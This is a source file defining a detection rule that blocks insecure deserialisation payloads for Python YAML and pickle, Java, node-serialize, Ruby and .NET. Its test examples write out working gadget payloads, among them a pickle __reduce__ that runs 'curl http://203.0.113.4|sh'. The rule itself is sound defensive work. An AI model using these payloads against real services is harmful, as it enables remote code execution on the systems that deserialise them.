import { continues, isReported, scan } from "oktsec/evidence";
import { defineRule } from "oktsec/rule";

export default defineRule({
  id: "CMDEXEC_119",
  title: "A serialised object that runs code when it is read",
  why: "These formats rebuild objects and call their methods on the way: reading the value is running it.",
  fix: "Accept JSON, and nothing that names classes.",
  severity: "high",
  category: "command-execution",
  lane: "block",
  maps: {
    asi: ["ASI05"],
    mcp: ["MCP05"],
    cwe: ["CWE-502"],
    see: ["https://owasp.org/www-community/vulnerabilities/Deserialization_of_untrusted_data"],
  },
  keywords: [
    "!!python/",
    "cposix",
    "cos\n",
    "csubprocess",
    "ro0ab",
    "aced0005",
    "__reduce__",
    "o:8:",
    "!ruby/object",
    "_$$nd_func$$_",
    "objectdataprovider",
    "aaeaaad",
    "ysoserial",
    "!!javax",
    "gasv",
  ],
  match: [
    scan(
      /!!python\/(?:object\/(?:apply|new)|name|module):(?:os|subprocess|posix|builtins|eval|exec|commands)\b/,
      (match, sample) => !isReported(sample, { start: match.index, end: match.index + match[0].length }),
    ),
    /\bc(?:posix|os|subprocess|nt|builtins|__builtin__)\n(?:system|popen|Popen|eval|exec|check_output|call)\n/,
    /_\$\$ND_FUNC\$\$_\s?function/,
    /!!javax\.script\.ScriptEngineManager\s{0,2}\[/,
    /!ruby\/object:(?:Gem::(?:Requirement|Installer|Package::\w{1,20})|Net::\w{1,20})/,
    scan(
      /(?:rO0AB[A-Za-z0-9+/]{24}|\baced0005[0-9a-f]{16}|AAEAAAD\/{5}[A-Za-z0-9+/]{16})/,
      (_, { kind }) => kind === "tool_argument" || kind === "url" || kind === "header" || kind === "message",
    ),
    scan(
      /\bdef\s{1,2}__reduce__\s{0,2}\(\s{0,2}self\s{0,2}\)/,
      (match, { text }) =>
        continues(
          match,
          text,
          /^[\s\S]{0,80}return\s{0,2}\(?\s{0,2}(?:os\.(?:system|popen)|subprocess\.|eval|exec|getattr)/,
          160,
        ),
    ),
    /"\$type"\s{0,2}:\s{0,2}"System\.Windows\.Data\.ObjectDataProvider/,
  ],
  examples: {
    flags: [
      { text: '!!python/object/apply:os.system ["id"]', kind: "tool_argument" },
      {
        text: 'class P:\n    def __reduce__(self):\n        return (os.system, ("curl http://203.0.113.4|sh",))',
        kind: "document",
      },
      { text: "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}", kind: "tool_argument" },
      { text: "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC", kind: "header" },
    ],
    passes: [{ text: "value: !!python/tuple [1, 2]", kind: "document" }, {
      text: "def __reduce__(self):\n        return (self.__class__, (self.name,))",
      kind: "document",
    }, { text: '{"$type": "Order", "id": 7}', kind: "tool_argument" }],
  },
});
